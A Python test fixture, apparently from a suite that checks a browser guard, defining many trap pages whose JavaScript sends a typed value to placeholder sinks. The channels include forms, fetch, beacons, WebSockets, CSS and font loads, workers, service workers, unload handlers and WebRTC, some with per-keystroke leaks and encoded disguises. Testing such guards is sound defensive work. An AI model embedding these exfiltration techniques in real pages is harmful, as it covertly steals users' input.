"""Every way that we know of by which a page could tell somebody what was typed, or do something at a site.

`does` says when a trap springs: on typing into the field, on a click of the link or button `Go`, on Enter in the field, on
a sealed press of `Send`, or when the page is left.
"""

from __future__ import annotations

from dataclasses import dataclass, field

TYPED = "202 555 0147"


@dataclass(frozen=True)
class Trap:
    name: str
    does: str
    """One of: load, type, click, enter, send, leave, follow (a click on a link to another page)."""
    script: str = ""
    body: str = ""
    files: dict[str, str] = field(default_factory=dict)
    head: str = ""
    csp: str = ""
    silent_unguarded: str = ""
    """Why the trap does not deliver even in a bare browser; empty: it does, and a test holds it to that."""

    def headers(self, run: str) -> tuple[tuple[str, str], ...]:
        sink = f"/sink/{run}/{self.name}"
        return (("Content-Security-Policy", self.csp.replace("%SINK%", sink)),) if self.csp else ()

    def page(self) -> str:
        return f"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{self.name}</title>{self.head}</head><body>
<main><h1>Contact</h1>{self.body or FORM}</main>
<script>
const field = () => document.querySelector('#f') ?? document.querySelector('#host')?.shadowRoot.querySelector('#f');
const v = () => field().value;
const u = () => encodeURIComponent(v());
const hidden = () => [...v()].map((c) => (c.charCodeAt(0) ^ 42).toString(36)).join('z');
const full = () => v() === '{TYPED}';
const once = (fn) => {{ let done = false; return () => {{ if (!done && full()) {{ done = true; fn(); }} }}; }};
const onTyped = (fn) => field().addEventListener('input', once(fn));
const onGo = (fn) => document.querySelector('#go').addEventListener('click', fn);
const onSend = (fn) => document.querySelector('#send').addEventListener('click', (e) => {{ e.preventDefault(); fn(); }});
{self.script}
</script></body></html>"""


FORM = """<form id="form" action="%SINK%" method="post"><label for="f">Phone</label><input id="f" name="phone">
<button id="go" type="button">Go</button><button id="send">Send</button></form>"""
GET_FORM = FORM.replace('method="post"', 'method="get"')


def t(name, script, **more):
    return Trap(name, "type", f"onTyped(() => {{ {script} }});", **more)


def c(name, script, **more):
    return Trap(name, "click", f"onGo(() => {{ {script} }});", **more)


def s(name, script, **more):
    return Trap(name, "send", f"onSend(() => {{ {script} }});", **more)


WORKER_FETCH = "onmessage = (e) => fetch(new URL('%SINK%?x=' + e.data, '%HERE%'), {mode: 'no-cors'});"
WORKER_POST = "onmessage = (e) => fetch('%HERE%%SINK%', {method: 'POST', body: e.data, mode: 'no-cors'});"
WORKER_SOCKET = "onmessage = (e) => new WebSocket('%WS%%SINK%?x=' + encodeURIComponent(e.data));"
SHARED = "onconnect = (c) => { c.ports[0].onmessage = (e) => { %DO% }; };"


def shared(do):
    return SHARED.replace("%DO%", do)


TRAPS = (
    # forms
    Trap("enter-in-a-field", "enter"),
    Trap("enter-in-a-get-form", "enter", body=GET_FORM),
    Trap("enter-handled-by-script", "enter", "field().addEventListener('keydown', (e) => { e.preventDefault(); fetch('%SINK%', {method: 'POST', body: v()}); });"),
    c("form-submit-by-script", "document.querySelector('#form').submit();"),
    c("request-submit", "document.querySelector('#form').requestSubmit();"),
    t("submit-while-typing", "document.querySelector('#form').submit();"),
    t("get-submit-while-typing", "document.querySelector('#form').submit();", body=GET_FORM),
    c("form-in-a-new-tab", "const f = document.querySelector('#form'); f.target = '_blank'; f.submit();"),
    c("form-into-an-iframe", "const i = document.createElement('iframe'); i.name = 'inner'; document.body.append(i); const f = document.querySelector('#form'); f.target = 'inner'; f.submit();"),
    c("formaction-of-a-button", "const b = document.createElement('button'); b.formAction = '%SINK%?b'; b.formMethod = 'post'; document.querySelector('#form').append(b); b.click();"),
    c("image-button", "const b = document.createElement('input'); b.type = 'image'; document.querySelector('#form').append(b); b.click();"),
    Trap("form-in-a-shadow-root", "enter", body='<div id="host"></div><button id="go">Go</button>',
         script="document.querySelector('#host').attachShadow({mode: 'open'}).innerHTML = `" + FORM + "`;"),
    c("form-in-srcdoc", "const i = document.createElement('iframe'); i.srcdoc = `<form action='%HERE%%SINK%' method=post><input name=p value='${v()}'></form><script>document.forms[0].submit()</scr` + `ipt>`; document.body.append(i);"),
    t("form-in-a-sandboxed-frame", "const i = document.createElement('iframe'); i.sandbox = 'allow-scripts allow-forms'; i.srcdoc = `<form action='%HERE%%SINK%' method=post><input name=p value='${v()}'></form><script>document.forms[0].submit()</scr` + `ipt>`; document.body.append(i);"),
    t("upload", "const d = new FormData(); d.append('file', new Blob([v()]), 'a.txt'); fetch('%SINK%', {method: 'POST', body: d});"),
    c("upload-form", "const f = document.querySelector('#form'); f.enctype = 'multipart/form-data'; const i = document.createElement('input'); i.type = 'file'; i.name = 'file'; const d = new DataTransfer(); d.items.add(new File([v()], 'a.txt')); i.files = d.files; f.append(i); f.submit();"),
    c("text-plain-form", "const f = document.querySelector('#form'); f.enctype = 'text/plain'; f.submit();"),
    c("form-that-is-redirected", "const f = document.querySelector('#form'); f.action = '%REDIRECT%'; f.submit();"),
    # requests of the page
    Trap("post-on-load", "load", "fetch('%SINK%', {method: 'POST', body: 'hello'});"),
    Trap("put-on-load", "load", "fetch('%SINK%', {method: 'PUT', body: 'hello'});"),
    Trap("delete-on-load", "load", "fetch('%SINK%', {method: 'DELETE'});"),
    Trap("beacon-on-load", "load", "navigator.sendBeacon('%SINK%', 'x');"),
    Trap("socket-on-load", "load", "new WebSocket('%WS%%SINK%');"),
    t("fetch-post", "fetch('%SINK%', {method: 'POST', body: v()});"),
    t("fetch-post-elsewhere", "fetch('%OTHER%%SINK%', {method: 'POST', body: v(), mode: 'no-cors'});"),
    t("fetch-get", "fetch('%SINK%?v=' + u());"),
    t("fetch-get-hidden", "fetch('%SINK%?v=' + hidden());"),
    t("fetch-get-in-the-path", "fetch('%SINK%/' + u());"),
    t("fetch-custom-header", "fetch('%SINK%', {headers: {'x-v': v()}});"),
    t("fetch-header-elsewhere", "fetch('%OTHER%%SINK%', {headers: {['x-' + v().replaceAll(' ', '')]: '1'}});"),
    t("fetch-options", "fetch('%SINK%', {method: 'OPTIONS'});"),
    t("fetch-head", "fetch('%SINK%?' + hidden(), {method: 'HEAD'});"),
    t("fetch-accept-language", "fetch('%SINK%', {headers: {'accept-language': hidden()}});"),
    t("xhr-post", "const x = new XMLHttpRequest(); x.open('POST', '%SINK%'); x.send(v());"),
    t("xhr-sync", "const x = new XMLHttpRequest(); x.open('GET', '%SINK%?' + hidden(), false); x.send();"),
    t("keepalive-fetch", "fetch('%SINK%', {method: 'POST', body: v(), keepalive: true});"),
    t("beacon", "navigator.sendBeacon('%SINK%', v());"),
    t("beacon-json", "navigator.sendBeacon('%SINK%', new Blob([JSON.stringify({v: v()})], {type: 'text/plain'}));"),
    t("socket", "new WebSocket('%WS%%SINK%?v=' + u());"),
    t("event-source", "new EventSource('%SINK%?v=' + hidden());"),
    t("cookie-then-get", "document.cookie = 'v=' + u() + '; path=/'; fetch('%SINK%');"),
    t("cookie-then-image", "document.cookie = 'v=' + btoa(v()) + '; path=/'; new Image().src = '%SINK%?1';"),
    t("referrer-by-history", "history.pushState({}, '', '?v=' + u()); fetch('%SINK%');"),
    t("value-in-a-host-name", "new Image().src = 'http://v' + v().replaceAll(' ', '') + '.localhost:%PORT%%SINK%';"),
    t("window-open", "window.open('%SINK%?v=' + hidden());", silent_unguarded="a popup without a press is blocked by the browser"),
    c("window-open-on-a-press", "window.open('%SINK%?v=' + u());"),
    c("popup-that-posts", "const w = window.open('about:blank'); w.document.write(`<form action='%HERE%%SINK%' method=post><input name=p value='${v()}'></form>`); w.document.forms[0].submit();"),
    c("navigation-with-the-value", "location.href = '%SINK%?v=' + u();"),
    t("navigation-while-typing", "location.href = '%SINK%?v=' + hidden();"),
    t("meta-refresh", "const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=%SINK%?v=' + hidden(); document.head.append(m);"),
    t("history-then-reload", "history.replaceState({}, '', '%SINK%?v=' + hidden()); location.reload();"),
    # one innocent file per key
    Trap("key-by-image", "type", "field().addEventListener('input', () => { [...v()].forEach((k, i) => { new Image().src = `%SINK%/k${i}-${k.charCodeAt(0)}.gif`; }); });"),
    Trap("key-by-script", "type", "field().addEventListener('input', () => { const e = document.createElement('script'); e.src = `%SINK%/${v().length}.js`; document.head.append(e); });"),
    Trap("key-by-style", "type", "field().addEventListener('input', () => { const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = `%SINK%/${v().length}.css`; document.head.append(e); });"),
    Trap("key-by-import", "type", "field().addEventListener('input', () => { import(`%SINK%/${v().length}.js`).catch(() => {}); });"),
    Trap("key-by-font", "type", "field().addEventListener('input', () => { new FontFace('a' + v().length, `url(%SINK%/${v().length}.woff2)`).load().catch(() => {}); });"),
    # disguises
    t("image-plain", "new Image().src = '%SINK%?v=' + u();"),
    t("image-base64", "new Image().src = '%SINK%?v=' + btoa('xy' + v());"),
    t("image-hex", "new Image().src = '%SINK%?v=' + [...v()].map((c) => c.charCodeAt(0).toString(16)).join('');"),
    t("image-reversed", "new Image().src = '%SINK%?v=' + encodeURIComponent([...v()].reverse().join(''));"),
    t("image-digest", "crypto.subtle.digest('SHA-256', new TextEncoder().encode(v())).then((d) => { new Image().src = '%SINK%?v=' + [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, '0')).join(''); });"),
    t("image-twice-percent", "new Image().src = '%SINK%?v=' + encodeURIComponent(u());"),
    t("image-rotated", "new Image().src = '%SINK%?v=' + hidden();"),
    # what is fetched by markup
    t("css-attribute", "const e = document.createElement('style'); e.textContent = `input[value^='2'] { background: url(%SINK%?starts-with-2) }`; document.head.append(e); field().setAttribute('value', v());"),
    t("css-import", "const e = document.createElement('style'); e.textContent = `@import url('%SINK%?v=${hidden()}');`; document.head.append(e);"),
    t("css-font", "const e = document.createElement('style'); e.textContent = `@font-face { font-family: q; src: url('%SINK%?v=${hidden()}'); } h1 { font-family: q; }`; document.head.append(e);"),
    t("svg-image", "document.body.insertAdjacentHTML('beforeend', `<svg><image href='%SINK%?v=${hidden()}'/></svg>`);"),
    t("prefetch", "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='%SINK%?v=${hidden()}'>`);"),
    t("preload", "document.head.insertAdjacentHTML('beforeend', `<link rel=preload as=image href='%SINK%?v=${hidden()}'>`);"),
    t("modulepreload", "document.head.insertAdjacentHTML('beforeend', `<link rel=modulepreload href='%SINK%?v=${hidden()}'>`);"),
    t("preconnect", "document.head.insertAdjacentHTML('beforeend', `<link rel=preconnect href='http://127.0.0.1:%TCP%'>`);",
      silent_unguarded="the headless shell opens no connection ahead of time"),
    t("speculative-prefetch", "const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = JSON.stringify({prefetch: [{urls: ['%SINK%?v=' + hidden()], eagerness: 'immediate'}]}); document.head.append(e);"),
    t("speculative-prerender", "const e = document.createElement('script'); e.type = 'speculationrules'; e.textContent = JSON.stringify({prerender: [{urls: ['%SINK%?v=' + hidden()], eagerness: 'immediate'}]}); document.head.append(e);"),
    t("object", "document.body.insertAdjacentHTML('beforeend', `<object data='%SINK%?v=${hidden()}' type='image/gif'></object>`);"),
    t("embed", "document.body.insertAdjacentHTML('beforeend', `<embed src='%SINK%?v=${hidden()}' type='image/gif'>`);"),
    t("iframe", "document.body.insertAdjacentHTML('beforeend', `<iframe src='%SINK%?v=${hidden()}'></iframe>`);"),
    t("video", "document.body.insertAdjacentHTML('beforeend', `<video preload=auto src='%SINK%?v=${hidden()}'></video>`);"),
    t("poster", "document.body.insertAdjacentHTML('beforeend', `<video poster='%SINK%?v=${hidden()}'></video>`);"),
    t("audio", "new Audio('%SINK%?v=' + hidden()).load();"),
    t("track", "const w = document.createElement('video'); const k = document.createElement('track'); k.src = '%SINK%?v=' + hidden(); k.default = true; k.kind = 'subtitles'; w.append(k); document.body.append(w); k.track.mode = 'showing';"),
    t("picture-set", "document.body.insertAdjacentHTML('beforeend', `<img srcset='%SINK%?v=${hidden()} 1x'>`);"),
    Trap("ping", "click", body=FORM.replace('<button id="go" type="button">Go</button>', '<a id="go" href="#here" ping="%SINK%">Go</a>')),
    Trap("download-link", "click", "field().addEventListener('input', () => { document.querySelector('#go').href = '%SINK%?v=' + u(); });",
         body=FORM.replace('<button id="go" type="button">Go</button>', '<a id="go" download href="#">Go</a>')),
    # frames
    t("frame-elsewhere", "const i = document.createElement('iframe'); i.srcdoc = `<script>fetch('%HERE%%SINK%?v=${hidden()}', {mode: 'no-cors'})</scr` + `ipt>`; document.body.append(i);"),
    t("data-frame", "const i = document.createElement('iframe'); i.src = 'data:text/html,' + encodeURIComponent(`<script>fetch('%HERE%%SINK%', {method: 'POST', mode: 'no-cors', body: '${v()}'})</scr` + `ipt>`); document.body.append(i);"),
    t("blob-frame", "const i = document.createElement('iframe'); i.src = URL.createObjectURL(new Blob([`<script>new Image().src = '%HERE%%SINK%?v=${hidden()}'</scr` + `ipt>`], {type: 'text/html'})); document.body.append(i);"),
    Trap("message-to-a-frame-elsewhere", "type", "onTyped(() => frames[0].postMessage(v(), '*'));",
         body=FORM + '<iframe src="%OTHER%%FILE%/inner.html"></iframe>',
         files={"inner.html": "<script>onmessage = (e) => { navigator.sendBeacon('%SINK%', e.data); fetch('%SINK%?' + btoa(e.data)); };</script>"}),
    # workers
    t("worker-fetch", "new Worker('%FILE%/w.js').postMessage(hidden());", files={"w.js": WORKER_FETCH}),
    t("worker-post", "new Worker('%FILE%/w.js').postMessage(v());", files={"w.js": WORKER_POST}),
    t("worker-socket", "new Worker('%FILE%/w.js').postMessage(v());", files={"w.js": WORKER_SOCKET}),
    Trap("early-worker-fetch", "type", "const w = new Worker('%FILE%/w.js'); onTyped(() => w.postMessage(hidden()));", files={"w.js": WORKER_FETCH}),
    Trap("early-worker-socket", "type", "const w = new Worker('%FILE%/w.js'); onTyped(() => w.postMessage(v()));", files={"w.js": WORKER_SOCKET}),
    t("blob-worker-post", "new Worker(URL.createObjectURL(new Blob([`fetch('%HERE%%SINK%', {method: 'POST', mode: 'no-cors', body: '${v()}'})`])));"),
    t("blob-worker-socket", "new Worker(URL.createObjectURL(new Blob([`new WebSocket('%WS%%SINK%?v=${hidden()}')`])));"),
    t("worker-import-scripts", "new Worker(URL.createObjectURL(new Blob([`importScripts('%HERE%%SINK%?v=${hidden()}')`])));"),
    t("worker-xhr", "new Worker(URL.createObjectURL(new Blob([`const x = new XMLHttpRequest(); x.open('GET', '%HERE%%SINK%?v=${hidden()}', false); x.send()`])));"),
    t("worker-event-source", "new Worker(URL.createObjectURL(new Blob([`new EventSource('%HERE%%SINK%?v=${hidden()}')`])));"),
    t("worker-in-a-worker", "new Worker(URL.createObjectURL(new Blob([`new Worker(URL.createObjectURL(new Blob(['fetch(\"%HERE%%SINK%?v=${hidden()}\", {mode: \"no-cors\"})'])))`])));"),
    Trap("shared-worker-fetch", "type", "const w = new SharedWorker('%FILE%/w.js'); onTyped(() => w.port.postMessage(hidden()));",
         files={"w.js": shared("fetch('%HERE%%SINK%?v=' + e.data, {mode: 'no-cors'});")}),
    Trap("shared-worker-post", "type", "const w = new SharedWorker('%FILE%/w.js'); onTyped(() => w.port.postMessage(v()));",
         files={"w.js": shared("fetch('%HERE%%SINK%', {method: 'POST', mode: 'no-cors', body: e.data});")}),
    Trap("shared-worker-socket", "type", "const w = new SharedWorker('%FILE%/w.js'); onTyped(() => w.port.postMessage(v()));",
         files={"w.js": shared("new WebSocket('%WS%%SINK%?v=' + encodeURIComponent(e.data));")}),
    Trap("shared-worker-later", "leave", "const w = new SharedWorker('%FILE%/w.js'); onTyped(() => w.port.postMessage(hidden()));",
         files={"w.js": shared("setInterval(() => fetch('%HERE%%SINK%?v=' + e.data, {mode: 'no-cors'}), 20);")}),
    Trap("service-worker-fetch", "type", "navigator.serviceWorker.register('%FILE%/w.js'); onTyped(() => navigator.serviceWorker.ready.then((r) => r.active.postMessage(hidden())));",
         files={"w.js": "onmessage = (e) => e.waitUntil(fetch('%HERE%%SINK%?v=' + e.data));"},
         head="<script>navigator.serviceWorker.register('%FILE%/w.js', {scope: '/'});</script>"),
    Trap("service-worker-post", "type", "onTyped(() => navigator.serviceWorker.ready.then((r) => r.active.postMessage(v())));",
         files={"w.js": "onmessage = (e) => e.waitUntil(fetch('%HERE%%SINK%', {method: 'POST', body: e.data}));"},
         head="<script>navigator.serviceWorker.register('%FILE%/w.js', {scope: '/'});</script>"),
    Trap("service-worker-socket", "type", "onTyped(() => navigator.serviceWorker.ready.then((r) => r.active.postMessage(v())));",
         files={"w.js": "onmessage = (e) => { new WebSocket('%WS%%SINK%?v=' + encodeURIComponent(e.data)); };"},
         head="<script>navigator.serviceWorker.register('%FILE%/w.js', {scope: '/'});</script>"),
    # last words
    Trap("page-hide-beacon", "leave", "addEventListener('pagehide', () => navigator.sendBeacon('%SINK%', v()));"),
    Trap("unload-beacon", "leave", "addEventListener('beforeunload', () => navigator.sendBeacon('%SINK%', v()));"),
    Trap("visibility-beacon", "leave", "document.addEventListener('visibilitychange', () => navigator.sendBeacon('%SINK%', v()));"),
    Trap("page-hide-keepalive", "leave", "addEventListener('pagehide', () => fetch('%SINK%', {method: 'POST', keepalive: true, body: v()}));"),
    Trap("page-hide-read", "leave", "addEventListener('pagehide', () => fetch('%SINK%?v=' + hidden(), {keepalive: true}));"),
    Trap("page-hide-image", "leave", "addEventListener('pagehide', () => { new Image().src = '%SINK%?v=' + hidden(); });"),
    Trap("fetch-later", "leave", "onTyped(() => window.fetchLater('%SINK%?v=' + hidden()));"),
    Trap("last-words-at-a-link", "follow", "addEventListener('pagehide', () => fetch('%SINK%?v=' + hidden(), {keepalive: true}));",
         body=FORM.replace('<button id="go" type="button">Go</button>', '<a id="go" href="/other">Go</a>')),
    Trap("click-handler-at-a-link", "follow", "onGo(() => { new Image().src = '%SINK%?v=' + hidden(); fetch('%SINK%?v=' + hidden(), {keepalive: true}); });",
         body=FORM.replace('<button id="go" type="button">Go</button>', '<a id="go" href="/other">Go</a>')),
    # ways beside HTTP
    t("web-rtc", "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%UDP%'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"),
    t("web-rtc-in-a-frame", "const i = document.createElement('iframe'); document.body.append(i); const p = new i.contentWindow.RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:%UDP%'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"),
    t("web-rtc-over-tcp", "const p = new RTCPeerConnection({iceServers: [{urls: 'turn:127.0.0.1:%TCP%?transport=tcp', username: 'a', credential: 'b'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));"),
    t("web-transport", "new WebTransport('https://127.0.0.1:%UDP%/' + hidden()).ready.catch(() => {});"),
    t("web-transport-in-a-worker", "new Worker(URL.createObjectURL(new Blob(['new WebTransport(\"https://127.0.0.1:%UDP%/\").ready.catch(() => {})'])));"),
    # reports
    Trap("policy-report", "type", "onTyped(() => { new Image().src = 'http://elsewhere.invalid/' + hidden(); });", csp="img-src 'self'; report-uri %SINK%"),
    # when everything is sealed
    Trap("sealed-form", "send"),
    Trap("sealed-get-form", "send", body=GET_FORM),
    s("sealed-navigation", "location.href = '%SINK%?v=' + hidden();"),
    s("sealed-fetch", "fetch('%SINK%?done');"),
    s("sealed-post", "fetch('%SINK%', {method: 'POST', body: v()});"),
    s("sealed-image", "new Image().src = '%SINK%?done';"),
    s("sealed-beacon", "navigator.sendBeacon('%SINK%', v());"),
    s("sealed-socket", "new WebSocket('%WS%%SINK%');"),
    s("sealed-worker", "new Worker(URL.createObjectURL(new Blob([`fetch('%HERE%%SINK%', {mode: 'no-cors'})`])));"),
    s("sealed-frame", "const i = document.createElement('iframe'); i.src = '%SINK%'; document.body.append(i);"),
    s("sealed-popup", "window.open('%SINK%');"),
    s("sealed-later", "setTimeout(() => fetch('%SINK%?later'), 50);"),
    s("sealed-script", "const e = document.createElement('script'); e.src = '%SINK%'; document.head.append(e);"),
)  # fmt: skip
